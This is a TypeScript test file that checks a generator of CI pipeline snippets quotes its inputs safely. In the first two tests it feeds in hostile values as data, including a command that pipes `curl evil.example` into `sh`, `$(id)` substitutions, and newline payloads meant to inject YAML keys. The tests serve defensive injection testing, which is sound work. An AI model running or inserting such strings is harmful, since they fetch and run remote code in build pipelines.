import type { RuleClaims } from '@portal/contract/trust-rules/trust-rules'
import { expect, it } from 'vitest'
import { trustRuleSnippets } from './trust-rule-snippets.ts'

const snippets = (audience: string, claims: RuleClaims = {}) =>
  trustRuleSnippets({
    apiUrl: 'https://api.example.com',
    workspaceId: '01W',
    serviceAccountId: '01S',
    audience,
    claims,
  })

const codeOf = (...input: Parameters<typeof snippets>) =>
  snippets(...input)
    .map(({ code }) => code)
    .join('\n')

const codeFor = (preset: string, claims: RuleClaims) =>
  snippets('a', claims).find((snippet) => snippet.preset === preset)?.code

it('Snippets quote the audience, so that a hostile one runs nothing in the pipeline of another manager', () => {
  const code = codeOf(`x'; curl evil.example | sh; '"$(id)#`)
  expect(code).toContain(String.raw`--audience 'x'\''; curl evil.example | sh; '\''"$$(id)#')`)
  expect(code).toContain(String.raw`aud: "x'; curl evil.example | sh; '\"$(id)#"`)
  expect(code).toContain(String.raw`audience: "x'; curl evil.example | sh; '\"$(id)#", expirationSeconds`)
  expect(code).toContain("audience=x'%3B%20curl%20evil.example%20%7C%20sh%3B%20'%22%24(id)%23\"")
})

it('Snippets quote the branch and the environment, so that hostile ones add nothing to a pipeline', () => {
  const hostile = 'x"\n  evil: "$(id)'
  const code = codeOf('a', {
    event_name: [hostile, 'push'],
    ref: `refs/heads/${hostile}`,
    environment: hostile,
    build_branch: hostile,
  })
  expect(code).not.toMatch(/^ *evil/m)
  expect(code).toContain(String.raw`branches: ["x\"\n  evil: \"$(id)"]`)
  expect(code).toContain(String.raw`environment: "x\"\n  evil: \"$(id)"`)
})

it('Snippets run a job where the rule accepts it', () => {
  const github = codeFor('github', {
    event_name: ['push', 'workflow_dispatch'],
    ref: ['refs/heads/main', 'refs/heads/next'],
  })
  expect(github).toContain('on:\n  push:\n    branches: ["main", "next"]\n  workflow_dispatch:\n')
  expect(github).not.toContain('environment')
  expect(codeFor('github', { environment: 'production' })).toContain('    environment: "production"\n')
  expect(codeFor('gitlab', { ref: 'main' })).toContain('  rules:\n    - if: $CI_COMMIT_BRANCH == "main"\n')
  expect(codeFor('gitlab', { environment: 'production' })).toContain('  environment: "production"\n')
  expect(codeFor('buildkite', { build_branch: 'main' })).toMatch(/\n {4}branches: "main"$/)
})

it('The snippet for Buildkite requests the ids that a rule must pin', () => {
  expect(codeFor('buildkite', {})).toContain('request-token --claim organization_id,pipeline_id ')
})
